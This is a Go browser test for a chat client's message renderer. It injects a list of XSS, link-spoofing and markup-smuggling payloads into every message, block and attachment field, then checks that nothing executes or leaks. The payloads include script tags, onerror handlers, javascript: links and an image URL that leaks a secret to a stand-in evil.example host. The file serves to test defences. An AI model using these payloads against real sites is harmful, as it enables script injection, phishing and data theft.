package page_test

import (
	"fmt"
	"strings"
	"testing"
)

// attacks are texts that try to run script, to fetch something, or to look like the page itself.
var attacks = []string{
	`<img src=x onerror="window.xss=1">`, `<script>window.xss=2</script>`, `<svg/onload=window.xss=3>`, `<iframe srcdoc="<script>parent.xss=4</script>"></iframe>`,
	`[click](javascript:window.xss=5)`, `<javascript:window.xss=6|click me>`, `[click](data:text/html,<script>window.xss=7</script>)`, `<data:text/html,x|click>`,
	`![x](https://evil.example/leak?q=secret)`, `[![x](https://evil.example/a.png)](https://evil.example/b)`, `![x](//evil.example/c.png)`,
	`<a href="javascript:window.xss=8" onclick="window.xss=9">x</a>`, `<style>*{display:none}</style>`, `<link rel=stylesheet href=https://evil.example/x.css>`,
	`<form action=https://evil.example><input name=a><button>Approve</button></form>`, `<span class="badge">APP</span>`, `<div data-testid="message">alice</div>`,
	"```<img src=x onerror=window.xss=10>```", "`<img src=x onerror=window.xss=11>`", `&lt;img src=x onerror=window.xss=12&gt;`, `&#60;img src=x onerror=window.xss=13&#62;`,
	`<https://evil.example/x"onmouseover="window.xss=14|https://bank.example>`, `[https://bank.example](https://evil.example)`, `<vbscript:x|y>`, `<<script>window.xss=15</script>|x>`,
	`[x](https://evil.example "title" onclick=alert)`, `<math><mtext></table><mglyph><style><img src=x onerror=window.xss=16>`, `<span data-token="user" data-id="U0ALICE"></span>`,
	"| a |\n|---|\n| <img src=x onerror=window.xss=17> |", "# <img src=x onerror=window.xss=18>", "\u202eevorppA\u202c \u2066\u2069 t\u0315\u0301\u0300\u0310\u0344e\u0301\u0300\u0310xt", `<!subteam^S1|<img src=x onerror=window.xss=19>>`,
	`<!date^1^{date}^javascript:window.xss=20|x>`, `<@U0ALICE|<b>bob</b>>`, `[a]: javascript:window.xss=21` + "\n\n[a]", `<https://user:pass@evil.example|bank.example>`,
}

// TestHostile puts every attack into every place that holds somebody else's words, then looks for anything that came alive.
func TestHostile(t *testing.T) {
	f := newFake(t)
	f.files["x.txt"] = strings.Join(attacks, "\n")
	f.files["x.md"] = strings.Join(attacks, "\n\n")
	f.files["x.csv"] = strings.Join(attacks, ",")
	n := 0
	add := func(m object) {
		n++
		m["ts"] = fmt.Sprintf("1700000000.%06d", n)
		f.messages[general] = append(f.messages[general], m)
	}
	for _, a := range attacks {
		add(object{"user": bob, "text": a})
		add(object{"user": bot, "bot_id": "B0", "username": a, "text": "", "stream": object{"state": "done", "chunks": []object{
			{"type": "task_update", "id": a, "title": a, "status": a, "details": a, "output": a}, {"type": "plan_update", "title": a}, {"type": "markdown_text", "text": a}, {"type": a, "text": a}}}})
		plain, mrk := plainText(a), object{"type": "mrkdwn", "text": a}
		press := object{"type": "button", "text": plain, "action_id": a, "value": a, "url": a}
		rich := object{"type": "rich_text", "elements": []any{object{"type": "rich_text_section", "elements": []any{object{"type": "text", "text": a}, object{"type": "link", "url": a, "text": a}, object{"type": "emoji", "name": a, "unicode": a},
			object{"type": "user", "user_id": a}, object{"type": "color", "value": a}, object{"type": "date", "timestamp": 1, "format": a, "url": a, "fallback": a}, object{"type": "broadcast", "range": a}}}, object{"type": "rich_text_preformatted", "elements": []any{object{"type": "text", "text": a}}}}}
		image := object{"type": "image", "image_url": a, "alt_text": a}
		add(object{"user": bot, "bot_id": "B0", "text": a, "blocks": []any{
			object{"type": "section", "block_id": a, "text": mrk, "fields": []any{plain, mrk}, "accessory": press}, object{"type": "header", "text": plain}, object{"type": "context", "elements": []any{mrk, image}},
			object{"type": "actions", "elements": []any{press, object{"type": "static_select", "action_id": a, "placeholder": plain, "options": []any{object{"text": plain, "value": a, "description": plain}}}, object{"type": "overflow", "action_id": a, "options": []any{object{"text": plain, "value": a, "url": a}}}}},
			object{"type": "image", "image_url": a, "alt_text": a, "title": plain}, object{"type": "markdown", "text": a}, rich, object{"type": "video", "video_url": a, "title_url": a, "title": plain, "alt_text": a, "thumbnail_url": a, "author_name": a},
			object{"type": "table", "rows": []any{[]any{object{"type": "raw_text", "text": a}, rich}}}, object{"type": "card", "title": mrk, "body": mrk, "hero_image": image, "icon": image, "actions": []any{press}},
			object{"type": "container", "title": plain, "child_blocks": []any{object{"type": "alert", "level": a, "text": mrk}}}, object{"type": "task_card", "task_id": a, "title": a, "status": a, "sources": []any{object{"type": "url", "url": a, "text": a}}},
			object{"type": "data_visualization", "title": a, "chart": object{"type": a, "segments": []any{object{"label": a, "value": 1}}}}, object{"type": a, "x": a}}})
		add(object{"user": bob, "text": "", "attachments": []any{object{"color": a, "pretext": a, "title": a, "title_link": a, "text": a, "author_name": a, "author_link": a, "image_url": a, "footer": a, "fields": []any{object{"title": a, "value": a}}}},
			"files": []any{object{"id": "F1", "name": a, "title": a, "mimetype": a, "filetype": a, "size": 10, "page_url": a, "thumb_page_url": a}}})
	}
	for _, name := range []string{"x.txt", "x.md", "x.csv"} {
		add(object{"user": bob, "text": "", "files": []any{object{"id": name, "name": name, "mimetype": "text/plain", "size": 4000, "page_url": "/files/" + name}}})
	}
	b := open(t, browser(t), f, f.address()+"&channel="+general)
	b.until(`document.querySelector('[data-testid=load-earlier]') && document.querySelectorAll('[data-testid=message]').length >= 50`)
	for eval[bool](b, `!!document.querySelector('[data-testid=load-earlier]')`) {
		before := eval[int](b, `document.querySelectorAll('[data-testid=message]').length`)
		eval[bool](b, `document.querySelector('[data-testid=load-earlier]').click() ?? true`)
		b.until(fmt.Sprintf(`document.querySelectorAll('[data-testid=message]').length > %d`, before))
	}
	eval[float64](b, `document.querySelector('.list .scroller').scrollTop = 1e9`)
	b.until(`document.querySelectorAll('[data-file^="x."] .file-preview:not(.muted)').length === 3`)
	// A modal and the inspector hold others' words too.
	f.view("open", object{"id": "V", "type": "modal", "title": plainText(attacks[0]), "submit": plainText(attacks[0]), "close": plainText(attacks[1]), "blocks": []any{
		object{"type": "input", "block_id": "b", "label": plainText(attacks[0]), "hint": plainText(attacks[2]), "element": object{"type": "plain_text_input", "action_id": "a", "initial_value": attacks[0], "placeholder": plainText(attacks[0])}}}})
	b.until(`document.querySelector('dialog[open]')`)
	b.click(id("modal-close"))
	b.click(id("inspector-toggle"))
	b.until(`document.querySelectorAll('.log-entry').length === 3`)
	eval[bool](b, `(document.querySelectorAll('.log-entry').forEach((e) => { e.open = true; }), true)`)

	if xss := eval[int](b, `window.xss`); xss != 0 {
		t.Errorf("script ran: attack %d", xss)
	}
	for what, selector := range map[string]string{
		"an element that may not be there": `.messages :is(script, iframe, object, embed, style, link, form, base, meta, svg:not(.icon), math)`,
		"an image from elsewhere":          `.messages img:not([src^="/files/"])`,
		"a badge among somebody's words":   `.msg-body .badge, .msg-body .msg-head, .msg-body .avatar, .msg-body [data-testid="message"]`,
		"a link that is not for people":    `.messages a:not([href^="http://"], [href^="https://"], [href^="mailto:"], [href^="/files/"], [href^="/#channel="])`,
		"a link that keeps its opener":     `.messages a[href^="http"]:not([rel~="noopener"][rel~="noreferrer"][target="_blank"])`,
		"a handler in an attribute":        `.messages :is([onclick], [onerror], [onload], [onmouseover])`,
		"an inline style from a text":      `.msg-body [style]:not(.swatch, .attachment-bar)`,
	} {
		if found := eval[[]string](b, fmt.Sprintf(`[...document.querySelectorAll(%q)].map((e) => e.outerHTML.slice(0, 160))`, selector)); len(found) > 0 {
			t.Errorf("%s: %q", what, found)
		}
	}
	// A label that names another address than the link's shows the link's host.
	lies := eval[[]string](b, `[...document.querySelectorAll('.msg-body a[href*="evil.example"]')].filter((a) => !a.closest('.link, .btn')?.querySelector('.link-host')?.textContent.includes('evil.example') && !a.textContent.includes('evil.example')).map((a) => a.outerHTML.slice(0, 200))`)
	if len(lies) > 0 {
		t.Errorf("links that hide their host: %q", lies)
	}
	// Images from elsewhere are named and linked, in mrkdwn's world and in Markdown's.
	if named := eval[int](b, `[...document.querySelectorAll('.md .remote-image a[href^="https://evil.example/leak"]')].length`); named == 0 {
		t.Error("a Markdown image from elsewhere is neither named nor linked")
	}
	if mentions := eval[int](b, `[...document.querySelectorAll('.md .chip')].filter((e) => e.textContent === '@alice').length`); mentions == 0 {
		t.Error("a mention in Markdown is not resolved")
	}
	if names := eval[int](b, `[...document.querySelectorAll('.file-name')].filter((e) => e.textContent.includes('onerror')).length`); names == 0 {
		t.Error("hostile file names are not shown as they are")
	}
}
